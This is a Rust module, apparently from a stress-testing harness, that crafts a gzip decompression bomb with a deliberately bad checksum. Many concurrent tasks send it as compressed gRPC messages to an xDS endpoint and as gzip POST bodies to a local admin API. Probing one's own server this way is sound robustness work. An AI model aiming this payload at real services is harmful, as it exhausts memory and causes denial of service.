//! Messages and bodies that are small until they are decompressed.

use bytes::{BufMut as _, Bytes, BytesMut};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::door::Protocol;
use crate::error::{Error, Result};
use crate::field::Field;
use crate::peer::Peer;
use crate::wire;

/// Sends bombs as compressed gRPC messages and as bodies with an encoding.
pub(super) async fn compressed(field: Field) {
    let bomb = bomb(field.pick(1 << 30, 16 << 20));
    let attackers = field.pick(20, 4);
    field
        .crowd(attackers, |index, field| {
            let bomb = bomb.clone();
            async move {
                while !field.is_over() {
                    match index % 2 {
                        0 => message(&field, &bomb).await?,
                        _ => body(&field, &bomb).await?,
                    }
                    field.note_taken(1);
                }
                Ok(())
            }
        })
        .await;
}

async fn message(field: &Field, bomb: &Bytes) -> Result<()> {
    let peer = Peer::connect(&field.xds).await?;
    let encoding = [("grpc-encoding", "gzip")];
    let mut call = peer.call_with(wire::DELTA, &encoding).await?;
    call.send_bytes(wire::head(1, bomb.len())).await?;
    call.send_bytes(bomb.clone()).await?;
    call.read().await.map(drop)
}

async fn body(field: &Field, bomb: &Bytes) -> Result<()> {
    let mut socket = field.admin.enter(Protocol::Http1).await?;
    let head = format!(
        "POST /api/v1/resources HTTP/1.1\r\nhost: localhost\r\ncontent-encoding: gzip\r\n\
         content-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        bomb.len()
    );
    socket.write_all(head.as_bytes()).await?;
    socket.write_all(bomb).await?;
    let mut status = [0; 12];
    socket.read_exact(&mut status).await?;
    match status.starts_with(b"HTTP/1.1 2") {
        true => Ok(()),
        false => Err(Error::Ended(String::from_utf8_lossy(&status).into_owned())),
    }
}

/// A gzip stream of so many zeros: with the codes that deflate has from the
/// beginning, a match of 258 bytes takes thirteen bits.
fn bomb(zeros: usize) -> Bytes {
    let mut bits = Bits::default();
    // The last block, with fixed codes; one zero; then copies of it.
    bits.put(0b1, 1);
    bits.put(0b01, 2);
    bits.put(0b0000_1100, 8);
    for _ in 0..zeros / 258 {
        // The code of 258, and that of a distance of one.
        bits.put(0b1010_0011, 8);
        bits.put(0, 5);
    }
    // The end of the block.
    bits.put(0, 7);

    let mut bytes = BytesMut::new();
    bytes.put(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255][..]);
    bytes.put(&bits.finish()[..]);
    // The checksum is wrong, which is found when it is too late.
    bytes.put_u64_le(0);
    bytes.freeze()
}

/// Bits, the lowest of a byte first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits {
    fn put(&mut self, bits: u32, count: u32) {
        self.pending |= bits << self.count;
        self.count += count;
        while self.count >= 8 {
            self.bytes.push((self.pending & 0xff) as u8);
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    fn finish(mut self) -> Vec<u8> {
        self.put(0, 7);
        self.bytes
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small() {
        let bomb = bomb(258 * 8);
        // Ten bytes of head, eight of checksum and length.
        assert_eq!(bomb.len(), 10 + 8 + 16);
    }
}
